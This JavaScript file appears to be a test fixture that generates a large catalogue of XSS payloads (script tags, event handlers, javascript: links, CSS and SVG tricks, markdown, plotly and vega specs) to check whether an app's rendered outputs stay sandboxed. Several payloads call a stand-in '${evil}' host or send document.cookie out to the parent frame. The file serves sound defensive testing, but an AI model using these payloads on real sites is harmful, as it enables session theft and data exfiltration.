// Outputs that try to reach something, by family. `${app}` is where the app is, `${evil}` somebody else's server, `${id}` the
// payload's own name; it has reached something if a server sees `/hit/ID`, or `top.__hit('ID')` is called, or the cookie
// arrives by message, or a window, dialog or download opens, or the page is somewhere else. To add one, add a line.
export function payloads({ app, evil }) {
  const list = []
  const html = 'text/html'
  const family = (name, type, ...makers) =>
    makers.forEach((make, i) => {
      const id = `${name}_${i}`
      list.push({ id, family: name, type, payload: make(id) })
    })

  family(
    'script',
    html,
    (id) => `<script>top.__hit('${id}')</script>`,
    (id) => `<script>parent.__hit('${id}')</script>`,
    (id) => `<script>fetch('${evil}/hit/${id}',{mode:'no-cors'})</script>`,
    (id) => `<script>fetch('${app}/hit/${id}',{credentials:'include',mode:'no-cors'})</script>`,
    (id) => `<script>fetch('${app}/hit/${id}',{method:'POST',credentials:'include',mode:'no-cors',body:'x'})</script>`,
    (id) => `<script>var x=new XMLHttpRequest();x.open('GET','${app}/hit/${id}');x.withCredentials=true;x.send()</script>`,
    (id) => `<script>new Image().src='${evil}/hit/${id}'</script>`,
    (id) => `<script>navigator.sendBeacon('${evil}/hit/${id}','x')</script>`,
    (id) => `<script>new WebSocket('${app.replace('http', 'ws')}/hit/${id}')</script>`,
    (id) => `<script>new EventSource('${evil}/hit/${id}')</script>`,
    (id) => `<script src="${evil}/hit/${id}"></script>`,
    (id) => `<script type="module">import('${evil}/hit/${id}')</script>`,
    (id) => `<script>var s=document.createElement('script');s.src='${evil}/hit/${id}';document.head.append(s)</script>`,
    (id) => `<script>top.document.title='hit ${id}'</script>`,
    (id) => `<script>parent.postMessage({stolen:'${id} '+document.cookie},'*')</script>`,
    (id) => `<script>localStorage.setItem('hit','${id}');top.__hit('${id}')</script>`,
    (id) => `<script>parent.document.querySelector('iframe').removeAttribute('sandbox');top.__hit('${id}')</script>`,
    (id) => `<script>new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/hit/${id}',{mode:'no-cors'})"])))</script>`,
    (id) => `<script>eval("top.__hit('${id}')")</script>`,
    (id) => `<script>new FontFace('x','url(${evil}/hit/${id})').load()</script>`,
  )
  family(
    'handler',
    html,
    (id) => `<img src=x onerror="top.__hit('${id}')">`,
    (id) => `<svg onload="top.__hit('${id}')"></svg>`,
    (id) => `<details open ontoggle="top.__hit('${id}')"><summary>x</summary></details>`,
    (id) => `<input autofocus onfocus="parent.__hit('${id}')">`,
    (id) => `<style>@keyframes a{}</style><b style="animation:a 1ms" onanimationstart="top.__hit('${id}')">x</b>`,
    (id) => `<video><source onerror="top.__hit('${id}')" src=x></video>`,
    (id) => `<body onload="top.__hit('${id}')">`,
    (id) => `<button onclick="top.__hit('${id}')">go</button>`,
  )
  family(
    'link',
    html,
    (id) => `<a href="javascript:top.__hit('${id}')">x</a>`,
    (id) => `<a target="_top" href="${evil}/hit/${id}">x</a>`,
    (id) => `<a target="_parent" href="${evil}/hit/${id}">x</a>`,
    (id) => `<a target="_blank" href="${evil}/hit/${id}">x</a>`,
    (id) => `<a href="${evil}/hit/${id}">x</a>`,
    (id) => `<a href="${app}/hit/${id}">x</a>`,
    (id) => `<base target="_top"><a href="${app}/hit/${id}">x</a>`,
    (id) => `<a download href="data:text/plain,${id}">x</a>`,
    (id) => `<a ping="${evil}/hit/${id}" href="#">x</a>`,
    (id) => `<map name="m"><area shape="default" href="${evil}/hit/${id}"></map>`,
  )
  family(
    'navigate',
    html,
    (id) => `<script>location='${evil}/hit/${id}'</script>`,
    (id) => `<script>location='${app}/hit/${id}'</script>`,
    (id) => `<script>top.location='${evil}/hit/${id}'</script>`,
    (id) => `<script>top.location.href='${app}/hit/${id}'</script>`,
    (id) => `<script>window.open('${evil}/hit/${id}')</script>`,
    (id) => `<script>window.open('${app}/hit/${id}','_top')</script>`,
    (id) => `<meta http-equiv="refresh" content="0;url=${evil}/hit/${id}">`,
    (id) => `<meta http-equiv="refresh" content="0;url=${app}/hit/${id}">`,
    (id) => `<script>history.pushState(0,'','/hit/${id}');location.reload()</script>`,
    (id) => `<script>location='data:text/html,<meta http-equiv=refresh content="0;url=${evil}/hit/${id}">'</script>`,
  )
  family(
    'form',
    html,
    (id) => `<form action="${evil}/hit/${id}"><input name=a value=1><button>go</button></form>`,
    (id) => `<form method=post action="${app}/hit/${id}"><button>go</button></form>`,
    (id) => `<form id=f action="${evil}/hit/${id}"></form><script>f.submit()</script>`,
    (id) => `<form target=_top action="${app}/hit/${id}"></form><script>document.forms[0].requestSubmit()</script>`,
    (id) => `<form><button formaction="javascript:top.__hit('${id}')">go</button></form>`,
    (id) => `<form><input type=image src="${evil}/hit/${id}"></form>`,
  )
  family(
    'embed',
    html,
    (id) => `<iframe src="${evil}/hit/${id}"></iframe>`,
    (id) => `<iframe src="${app}/hit/${id}"></iframe>`,
    (id) => `<iframe srcdoc="<script>top.__hit('${id}')</script>"></iframe>`,
    (id) => `<iframe src="javascript:top.__hit('${id}')"></iframe>`,
    (id) => `<object data="${evil}/hit/${id}"></object>`,
    (id) => `<embed src="${evil}/hit/${id}">`,
    (id) => `<img src="${evil}/hit/${id}">`,
    (id) => `<img srcset="${evil}/hit/${id} 1x">`,
    (id) => `<picture><source srcset="${evil}/hit/${id}"><img></picture>`,
    (id) => `<video src="${evil}/hit/${id}" autoplay></video>`,
    (id) => `<audio src="${evil}/hit/${id}" autoplay></audio>`,
    (id) => `<video poster="${evil}/hit/${id}"></video>`,
    (id) => `<base href="${evil}/hit/"><img src="${id}">`,
    (id) => `<track src="${evil}/hit/${id}"><video><track default src="${evil}/hit/${id}"></video><img src="${evil}/hit/${id}">`,
    (id) => `<math><mi><script>top.__hit('${id}')</script></mi></math>`,
    (id) => `<math><annotation-xml encoding="text/html"><img src=x onerror="top.__hit('${id}')"></annotation-xml></math>`,
  )
  family(
    'style',
    html,
    (id) => `<style>@import url(${evil}/hit/${id});</style>`,
    (id) => `<link rel=stylesheet href="${evil}/hit/${id}">`,
    (id) => `<link rel=prefetch href="${evil}/hit/${id}"><link rel=preload as=image href="${evil}/hit/${id}">`,
    (id) => `<link rel=icon href="${evil}/hit/${id}"><link rel=modulepreload href="${evil}/hit/${id}">`,
    (id) => `<div style="background:url(${evil}/hit/${id})">x</div>`,
    (id) => `<style>input[value^="s"]{background:url(${evil}/hit/${id})}</style><input value="secret">`,
    (id) => `<style>@font-face{font-family:e;src:url(${evil}/hit/${id})}b{font-family:e}</style><b>x</b>`,
    (id) => `<style>b::before{content:url(${evil}/hit/${id})}</style><b>x</b>`,
    (id) => `<style>ul{list-style-image:url(${evil}/hit/${id})}</style><ul><li>x</ul>`,
    (id) => `<style>b{cursor:url(${evil}/hit/${id}),auto;mask-image:url(${evil}/hit/${id})}</style><b>x</b>`,
  )
  family(
    'breakout',
    html,
    (id) => `</body></html><script>top.__hit('${id}')</script>`,
    (id) => `</iframe><script>top.__hit('${id}')</script>`,
    (id) => `<table class="dataframe"><tr><td><img src=x onerror="top.__hit('${id}')"></td></tr></table>`,
    (id) => `<table class="dataframe"><tr><th><script>top.__hit('${id}')</script></th></tr></table>`,
    (id) => `<table class="dataframe"><tr><td><img src="${evil}/hit/${id}"></td></tr></table>`,
    (id) => `<!--><script>top.__hit('${id}')</script>-->`,
    (id) => `<noscript><p title="</noscript><script>top.__hit('${id}')</script>"></noscript><script>top.__hit('${id}')</script>`,
  )
  family(
    'ask',
    html,
    (id) => `<script>alert('${id}')</script>`,
    (id) => `<script>if(confirm('${id}')||true)top.__hit('${id}')</script>`,
    (id) => `<script>print();top.__hit('${id}')</script>`,
    (id) => `<script>parent.postMessage({easel:'frame-height',height:1e9},'*');top.__hit('${id}')</script>`,
    (id) => `<script>for(const k of ['z','Delete'])top.dispatchEvent(new KeyboardEvent('keydown',{key:k}));top.__hit('${id}')</script>`,
  )
  const svg = (inner) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">${inner}</svg>`
  family(
    'svg',
    'image/svg+xml',
    (id) => svg(`<script>top.__hit('${id}')</script>`),
    (id) => `<svg xmlns="http://www.w3.org/2000/svg" onload="top.__hit('${id}')"/>`,
    (id) => svg(`<image href="${evil}/hit/${id}" width="9" height="9"/>`),
    (id) => svg(`<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${evil}/hit/${id}"/></foreignObject>`),
    (id) => svg(`<a href="javascript:top.__hit('${id}')"><rect width="20" height="20"/></a>`),
    (id) => svg(`<style>@import url(${evil}/hit/${id});</style>`),
    (id) => svg(`<set attributeName="x" onbegin="top.__hit('${id}')" begin="0s"/>`),
    (id) => svg(`<rect width="9" height="9" style="fill:url(${evil}/hit/${id}#a);mask:url(${evil}/hit/${id}#a)"/>`),
  )
  family(
    'markdown',
    'text/markdown',
    (id) => `<script>top.__hit('${id}')</script>`,
    (id) => `<img src=x onerror="top.__hit('${id}')">`,
    (id) => `[x](javascript:top.__hit('${id}'))`,
    (id) => `[x](JaVaScRiPt:top.__hit('${id}'))`,
    (id) => `[x](&#106;avascript:top.__hit('${id}'))`,
    (id) => `![x](${evil}/hit/${id})`,
    (id) => `![x](/hit/${id})`,
    (id) => `[x](/hit/${id})`,
    (id) => `[r]\n\n[r]: javascript:top.__hit('${id}')`,
    (id) => `<javascript:top.__hit('${id}')>\n\n<img src=x onerror="top.__hit('${id}')">`,
    (id) => `**x** <svg onload="top.__hit('${id}')"></svg>`,
    (id) => `$\\href{javascript:top.__hit('${id}')}{x}$ [x](javascript:top.__hit('${id}'))`,
    (id) => `$\\includegraphics{${evil}/hit/${id}}$ ![](${evil}/hit/${id})`,
    (id) => `$\\htmlStyle{background:url(${evil}/hit/${id})}{x}$ <b style="background:url(${evil}/hit/${id})">x</b>`,
  )
  family(
    'text',
    'text/plain',
    (id) => `<script>top.__hit('${id}')</script>`,
    (id) => `<img src=x onerror="top.__hit('${id}')">`,
    (id) => `\u001b]8;;javascript:top.__hit('${id}')\u0007x\u001b]8;;\u0007<img src=x onerror="top.__hit('${id}')">`,
  )
  family(
    'json',
    'application/json',
    (id) => ({ [`<img src=x onerror="top.__hit('${id}')">`]: 1 }),
    (id) => [`<script>top.__hit('${id}')</script>`],
    (id) => JSON.parse(`{"__proto__":{"x":"<svg onload=top.__hit('${id}')>"}}`),
  )
  const plot = (title) => ({ data: [{ x: [1], y: [2], type: 'scatter' }], layout: { title: { text: title } } })
  family(
    'plotly',
    'application/vnd.plotly.v1+json',
    (id) => plot(`<a href="javascript:top.__hit('${id}')">x</a><img src=x onerror="top.__hit('${id}')">`),
    (id) => plot(`</script><script>top.__hit('${id}')</script>`),
    (id) => ({ data: [], layout: { images: [{ source: `${evil}/hit/${id}`, x: 0, y: 1, sizex: 1, sizey: 1 }] } }),
  )
  family(
    'vega',
    'application/vnd.vegalite.v5+json',
    (id) => ({ data: { url: `${evil}/hit/${id}` }, mark: 'bar' }),
    (id) => ({ title: `</script><script>top.__hit('${id}')</script>`, data: { values: [{ a: 1 }] }, mark: 'point' }),
    (id) => ({ data: { values: [{ u: `${evil}/hit/${id}` }] }, mark: { type: 'image' }, encoding: { url: { field: 'u' } } }),
  )
  family(
    'name',
    'error',
    (id) => `<img src=x onerror="top.__hit('${id}')">`,
    (id) => `"><script>top.__hit('${id}')</script>`,
  )
  return list
}
